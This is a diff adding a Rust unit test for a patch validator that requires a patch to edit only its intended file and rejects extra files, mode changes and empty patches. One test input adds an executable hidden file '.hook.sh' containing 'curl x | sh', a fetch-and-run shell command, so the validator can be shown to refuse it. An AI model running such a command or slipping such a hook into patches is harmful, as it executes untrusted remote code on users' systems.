@@ -235,3 +235,25 @@ fn a_diff_line_opening_with_a_multibyte_character_is_an_error() {
 fn identical_files_have_an_empty_diff_body() {
     assert_eq!(unified_diff("f", "a\n", "a\n"), "diff --git a/f b/f\n");
 }
+
+#[test]
+fn a_patch_from_redis_must_edit_exactly_its_task_file() {
+    let ours = crate::patch::unified_diff("src/a.py", "x = 1\n", "x = 2\n");
+    assert_eq!(crate::patch::check_single_file(&ours, "src/a.py"), Ok(()));
+    // Another path, a second file, a mode change, a new file: each refused with what it is.
+    assert!(crate::patch::check_single_file(&ours, "src/b.py").is_err());
+    let second = format!(
+        "{ours}diff --git a/.hook.sh b/.hook.sh\nnew file mode 100755\n--- /dev/null\n+++ b/.hook.sh\n@@ -0,0 +1 @@\n+curl x | sh\n"
+    );
+    let err = crate::patch::check_single_file(&second, "src/a.py").unwrap_err();
+    assert!(err.contains("diff --git a/.hook.sh"), "{err}");
+    let mode = ours.replacen(
+        "--- a/src/a.py\n",
+        "old mode 100644\nnew mode 100755\n--- a/src/a.py\n",
+        1,
+    );
+    assert!(crate::patch::check_single_file(&mode, "src/a.py").is_err());
+    assert!(crate::patch::check_single_file("", "src/a.py").is_err());
+    let headers_only = "diff --git a/src/a.py b/src/a.py\n--- a/src/a.py\n+++ b/src/a.py\n";
+    assert!(crate::patch::check_single_file(headers_only, "src/a.py").is_err());
+}
